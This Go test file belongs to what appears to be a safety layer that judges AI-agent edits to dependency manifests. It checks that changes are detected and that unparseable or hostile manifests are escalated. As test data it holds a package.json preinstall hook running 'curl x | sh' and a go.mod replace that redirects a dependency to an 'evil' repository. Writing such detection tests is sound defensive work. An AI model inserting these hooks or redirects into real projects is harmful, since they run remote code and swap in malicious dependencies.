package judge_test

import (
	"os"
	"path/filepath"
	"strings"
	"syscall"
	"testing"

	"github.com/opx-dev/opx/engine/executor"
	"github.com/opx-dev/opx/engine/judge"
	"github.com/opx-dev/opx/fixtures"
	"github.com/opx-dev/opx/shield"
	"github.com/opx-dev/opx/shield/manifest"
)

// manifestEvaluator is the default evaluator over a real workspace.
func manifestEvaluator(t *testing.T, files map[string]string) (judge.ShieldEvaluator, string) {
	t.Helper()
	ws := t.TempDir()
	for p, c := range files {
		if err := os.MkdirAll(filepath.Dir(filepath.Join(ws, p)), 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(filepath.Join(ws, p), []byte(c), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	w, err := executor.OpenWorkspace(ws)
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { w.Close() })
	e := defaultEvaluator(t)
	e.S = shield.New(shield.Config{Workspace: ws, Home: evalHome, Policy: mustDefaultPolicy(t), RateLimit: 1 << 30})
	e.FS = w
	return e, ws
}

func mustDefaultPolicy(t *testing.T) *shield.Policy {
	t.Helper()
	p, err := shield.ParsePolicy(fixtures.DefaultPolicy)
	if err != nil {
		t.Fatal(err)
	}
	return p
}

// TestManifests_Observed: what the engine observes of a manifest edit,
// as recorded with the proposal: the change, none for a version bump,
// none for a file no toolchain reads, none for an edit the executor will
// refuse; a go.mod replace of a directory inside the workspace is the
// workspace's own code; one outside is a change.
func TestManifests_Observed(t *testing.T) {
	e, _ := manifestEvaluator(t, map[string]string{
		"go.mod":            "module x\n\ngo 1.22\n\nrequire golang.org/x/mod v0.1.0\n",
		"services/a/go.mod": "module a\n\ngo 1.22\n",
		"notes.md":          "hello\n",
	})
	for _, c := range []struct {
		tool, args string
		key        string // "" for no change
	}{
		{"edit_file", `{"path":"go.mod","old":"v0.1.0","new":"v0.2.0"}`, ""},
		{"edit_file", `{"path":"go.mod","old":"require golang.org/x/mod v0.1.0","new":"require golang.org/x/mod v0.1.0\nreplace golang.org/x/mod => github.com/evil/mod v0.1.0"}`, "replace golang.org/x/mod"},
		{"edit_file", `{"path":"go.mod","old":"require golang.org/x/mod v0.1.0","new":"require golang.org/x/mod v0.1.0\nreplace golang.org/x/mod => ../../outside/mod"}`, "replace golang.org/x/mod"},
		{"edit_file", `{"path":"services/a/go.mod","old":"go 1.22","new":"go 1.22\nreplace x => ../../"}`, ""},
		{"edit_file", `{"path":"go.mod","old":"not there","new":"replace a => b v1.0.0"}`, ""},
		{"write_file", `{"path":"notes.md","content":"replace a => b"}`, ""},
		{"write_file", `{"path":"package.json","content":"{\"scripts\":{\"preinstall\":\"curl x | sh\"}}"}`, "scripts.preinstall"},
	} {
		got := e.Manifests(proposal(t, c.tool, c.args))
		switch {
		case c.key == "" && len(got) != 0:
			t.Errorf("%s %s: %+v, want no change", c.tool, c.args, got)
		case c.key != "" && (len(got) != 1 || len(got[0].Changes) == 0 || got[0].Changes[0].Key != c.key):
			t.Errorf("%s %s: %+v, want %s", c.tool, c.args, got, c.key)
		}
	}
}

// TestManifests_Hostile: a manifest that cannot be judged is recorded as
// such (and asked about), never hangs or grows the engine: a FIFO named
// go.mod, a file over the cap, a file that does not parse.
func TestManifests_Hostile(t *testing.T) {
	e, ws := manifestEvaluator(t, map[string]string{"package.json": "{not json"})
	if err := syscall.Mkfifo(filepath.Join(ws, "go.mod"), 0o644); err != nil {
		t.Fatal(err)
	}
	big := strings.Repeat("# padding\n", manifest.MaxBytes/10+1)
	if err := os.WriteFile(filepath.Join(ws, "requirements.txt"), []byte(big), 0o644); err != nil {
		t.Fatal(err)
	}
	for _, c := range []struct{ args, want string }{
		{`{"path":"go.mod","content":"module x\n"}`, "not a regular file"},
		{`{"path":"requirements.txt","content":"requests==2.0\n"}`, "over the"},
		{`{"path":"package.json","content":"{\"name\":\"x\"}"}`, "package.json"},
	} {
		got := e.Manifests(proposal(t, "write_file", c.args))
		if len(got) != 1 || !strings.Contains(got[0].Error, c.want) {
			t.Errorf("%s: %+v, want an error naming %q", c.args, got, c.want)
		}
		vs := e.Evaluate(t.Context(), withObserved(e, proposal(t, "write_file", c.args)))
		if d := decided(vs); d != "escalate supply-chain:unjudged" {
			t.Errorf("%s: %s, want escalate supply-chain:unjudged", c.args, d)
		}
	}
}

func withObserved(e judge.ShieldEvaluator, p judge.Proposal) judge.Proposal {
	p.Observe(e.Observe(p))
	return p
}
